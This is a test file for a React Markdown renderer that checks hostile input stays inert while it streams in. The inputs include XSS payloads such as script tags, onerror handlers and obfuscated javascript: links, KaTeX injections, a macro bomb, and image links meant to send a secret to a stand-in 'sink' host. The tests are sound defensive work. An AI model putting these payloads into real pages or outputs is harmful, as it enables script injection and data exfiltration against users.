import { act, render, screen, waitFor } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeAll, describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const FORBIDDEN =
  "script, img, iframe, object, embed, video, audio, picture, source, link, meta, base, form, input, style, template, foreignObject, [srcset], [src], [ping], [srcdoc], [poster], [background], [formaction]";
const HARMLESS = /^(https?|mailto):/;

beforeAll(async () => {
  // The parser is loaded on demand; load it before these tests.
  await import("./markdown-block");
});

async function show(text: string) {
  // The parser is loaded lazily. Wait for it, because these tests are not about the plain text shown until then.
  const first = render(<Markdown text="*ready*" />);
  await waitFor(() => expect(screen.getByText("ready").tagName).toBe("EM"));
  first.unmount();
  const view = render(<Markdown text={text} />);
  await act(async () => {});
  return view;
}

function expectInert(container: HTMLElement, shown: string): void {
  expect(container.querySelectorAll(FORBIDDEN), shown).toHaveLength(0);
  for (const element of container.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name, shown).not.toMatch(/^on/i);
      if (name === "style") expect(value, shown).not.toMatch(/url|expression/i);
    }
    if (element instanceof SVGElement) expect(element.closest("button, .katex")).not.toBeNull();
  }
  for (const link of container.querySelectorAll("a, [href]")) {
    expect(link.getAttribute("href"), shown).toMatch(HARMLESS);
    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow ugc");
    expect(link).toHaveAttribute("target", "_blank");
  }
}

async function stream(text: string): Promise<HTMLElement> {
  const view = await show("");
  let shown = "";
  for (const sign of text) {
    shown += sign;
    view.rerender(<Markdown text={shown} />);
    expectInert(view.container, shown);
  }
  await act(async () => {});
  expectInert(view.container, shown);
  return view.container;
}

describe("A48: hostile markup stays text, also while it streams in character by character", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href=javascript:alert(1)>x</a></svg>",
    "<math><mi href=javascript:alert(1)>x</mi></math>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "a <b onclick=alert(1)>b</b> <a href=javascript:alert(1)>c</a>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](vbscript:msgbox) [x](data:text/html,<script>1</script>)",
    "[x](java&#x09;script:alert(1)) [x](&#106;avascript:alert(1)) [x](<java\tscript:alert(1)>) [x]( javascript:alert(1))",
    "[x](//evil.example) [x](/api/me) [x](?q) [x](#a) [x](blob:x) [x](file:///etc/passwd)",
    "[x][1] [1]\n\n[1]: javascript:alert(1)\n",
    "<javascript:alert(1)> <data:text/html,x> javascript:alert(1)",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>",
    "~~~\n<script>alert(1)</script>\n~~~\n\n<script>alert(2)</script>",
    "> <script>alert(1)</script>\n\n- <img src=x onerror=alert(1)>\n\n| <img src=x onerror=1> |\n|--|\n| [x](javascript:1) |",
    "# <style>@import 'http://sink'</style> <base href=http://sink> <form action=http://sink><input></form>",
  ])("%s", async (payload) => {
    const container = await stream(payload);
    expect(container.querySelectorAll('a[href*="script:"], a[href^="data:"]')).toHaveLength(0);
  });

  it("shows the markup as text", async () => {
    await show("before <b onclick=x>bold</b>");
    expect(screen.getByText("<b onclick=x>")).toBeInTheDocument();
  });
});

describe("A49: formulas can neither link, load nor explode", () => {
  it.each([
    "$\\href{javascript:alert(1)}{x}$",
    "$$\n\\includegraphics{http://sink.example/x.png}\n$$",
    "$\\htmlData{onclick=alert(1)}{x}$ and $\\url{javascript:alert(1)}$",
    "$\\htmlStyle{background:url(http://sink.example)}{x}$",
  ])("%s", async (payload) => {
    const { container } = await show(payload);
    await waitFor(() => expect(container.querySelector(".katex")).not.toBeNull());
    expectInert(container, payload);
    expect(container.querySelectorAll("a")).toHaveLength(0);
  });

  it("stops a macro bomb, and shows its source", async () => {
    const bomb = `$$\n${"abcdefghij"
      .split("")
      .map((name, index, all) => `\\def\\${name}{${`\\${all[index - 1] ?? "x"}`.repeat(10)}}`)
      .join("")}\\j\n$$`;
    const began = performance.now();
    const { container } = await show(bomb);
    await act(async () => {
      await import("../fns/typeset");
    });
    expect(performance.now() - began).toBeLessThan(2_000);
    expect(container.querySelector(".katex")).toBeNull();
    expect(container.querySelector("code")).toBeVisible();
  });

  it("limits sizes and does not typeset overlong formulas", async () => {
    const { container } = await show(`$\\rule{9999em}{9999em}$ and $${"x + ".repeat(1_000)}x$`);
    await waitFor(() => expect(container.querySelectorAll(".katex")).toHaveLength(1));
    expect(container.innerHTML).not.toContain("9999em;");
  });
});

describe("right-to-left text", () => {
  it("takes its direction from the first letter of each block, except in code and formulas", async () => {
    const { container } = await show(
      "`npm` שלום\n\nHello\n\n- אחת\n\n  עוד\n- שתיים\n\n> ציטוט\n\n```py\nx = 1\n```\n\n$x$ חמש",
    );
    const parts = [...container.querySelectorAll(".prose-answer > *")];
    expect(parts.map((part) => [part.tagName, part.getAttribute("dir")])).toEqual([
      ["P", "auto"],
      ["P", "auto"],
      ["UL", "auto"],
      ["BLOCKQUOTE", "auto"],
      ["DIV", "ltr"],
      ["P", "auto"],
    ]);
    // Elements with their own direction do not count for the block around them.
    expect(container.querySelectorAll("li [dir], li[dir], blockquote [dir]")).toHaveLength(0);
    expect(screen.getByText("npm")).toHaveAttribute("dir", "ltr");
    expect(screen.getByText("x", { selector: "code" }).parentElement).toHaveAttribute("dir", "ltr");
  });
});

describe("A50: diagrams are code", () => {
  it("shows Mermaid source", async () => {
    const diagram =
      "```mermaid\n%%{init: {'securityLevel':'loose'}}%%\ngraph TD; A[<img src=http://sink>]-->B\nclick A call alert()\n```";
    const container = await stream(diagram);
    expect(container.querySelector("pre")).toHaveTextContent("click A call alert()");
    expect(screen.getByText("mermaid")).toBeInTheDocument();
  });
});

describe("A55: nothing is fetched", () => {
  it("turns images into links", async () => {
    const container = await stream(
      "![chart](http://sink.example/p?q=SECRET) ![x](data:image/png;base64,AAAA) ![y][r]\n\n[r]: http://sink.example/2\n",
    );
    const link = screen.getByRole("link", { name: "Image: chart" });
    expect(link).toHaveAttribute("href", "http://sink.example/p?q=SECRET");
    expect(link).toHaveAttribute("title", "sink.example");
    expect(container.querySelectorAll("a")).toHaveLength(2);
    expect(screen.getByText("Image: x").closest("a")).toBeNull();
  });

  it("shows no image of this site either", async () => {
    expectInert((await show("![x](/api/images/1)")).container, "");
  });
});

describe("long and strange texts", () => {
  it.each([
    ["long prose", "word ".repeat(20_000)],
    ["quotes in quotes", `${">".repeat(5_000)} x`],
    ["brackets", "[".repeat(8_000)],
    ["open links", "[a](".repeat(2_000)],
    ["stars", "*a _b ".repeat(1_300)],
    ["lists in lists", Array.from({ length: 300 }, (_, n) => `${" ".repeat(n * 2)}- x`).join("\n")],
    ["backticks", Array.from({ length: 120 }, (_, n) => `${"`".repeat(n)} `).join("")],
    ["a few hundred brackets", "(".repeat(130)],
    ["pairs of signs", "(*".repeat(149)],
    ["spaced quotes", `${"> ".repeat(2_000)}x`],
    ["many blocks", "para *x* [l](http://a.b)\n\n".repeat(2_000)],
  ])("do not freeze the page: %s", async (_, text) => {
    // CPU time of this process, so that a busy machine does not fail the test.
    const before = process.cpuUsage();
    const { container } = await show(text);
    const { user, system } = process.cpuUsage(before);
    expect((user + system) / 1_000).toBeLessThan(10_000);
    expect(container.textContent?.length).toBeGreaterThan(100);
  });
});

describe("what models usually write", () => {
  it("is formatted", async () => {
    const { container } = await show(
      [
        "# Title\n\nSome **bold**, *soft*, ~~old~~ and `code`[^1].  \nNext line",
        "1. one\n2. two\n   - inner\n\n- [x] done\n- [ ] open",
        "| a | b |\n|:-:|--:|\n| 1 | 2 |",
        "> quoted\n\n---\n\n[ref] and <me@example.com>\n\n[ref]: https://example.com",
        "[^1]: The note.",
      ].join("\n\n"),
    );
    expect(screen.getByRole("heading", { name: "Title" })).toBeInTheDocument();
    expect(screen.getByText("bold").tagName).toBe("STRONG");
    expect(screen.getByText("old").tagName).toBe("DEL");
    expect(screen.getByRole("table")).toHaveTextContent("ab12");
    expect(screen.getByRole("link", { name: "ref" })).toHaveAttribute(
      "href",
      "https://example.com/",
    );
    expect(screen.getByRole("link", { name: "me@example.com" })).toHaveAttribute(
      "href",
      "mailto:me@example.com",
    );
    expect(container.querySelectorAll("ol > li")).toHaveLength(2);
    expect(container).toHaveTextContent("☑ done");
    expect(container.querySelector("hr, blockquote")).not.toBeNull();
  });

  it("has formulas in both notations, and money", async () => {
    const { container } = await show("\\(a+b\\) and $c$ cost $5 or $10.\n\n\\[\nx^2\n\\]\n");
    await waitFor(() => expect(container.querySelectorAll(".katex")).toHaveLength(3));
    expect(container).toHaveTextContent("cost $5 or $10.");
  });

  it("has code that is highlighted once complete, and can be copied", async () => {
    const user = userEvent.setup();
    const { container, rerender } = await show("```python\nimport os");
    expect(container.querySelector("[class^=hljs]")).toBeNull();
    rerender(<Markdown text={"```python\nimport os\n```\n\n```nolang\nx\n```"} />);
    await waitFor(() =>
      expect(container.querySelector(".hljs-keyword")).toHaveTextContent("import"),
    );
    await user.click(screen.getAllByRole("button", { name: "Copy code" })[0] as HTMLElement);
    expect(await navigator.clipboard.readText()).toBe("import os");
  });
});

it("highlights unclosed code once the text is complete", async () => {
  const open = "```js\nconst x = 1;";
  const view = await show(open);
  expect(view.container.querySelector("code span")).toBeNull();
  view.rerender(<Markdown text={open} final />);
  await waitFor(() => expect(view.container.querySelector("code span")).not.toBeNull());
  const closed = render(<Markdown text={`${open}\n\`\`\``} final />);
  await waitFor(() =>
    expect(closed.container.querySelector("pre")?.innerHTML).toBe(
      view.container.querySelector("pre")?.innerHTML,
    ),
  );
});
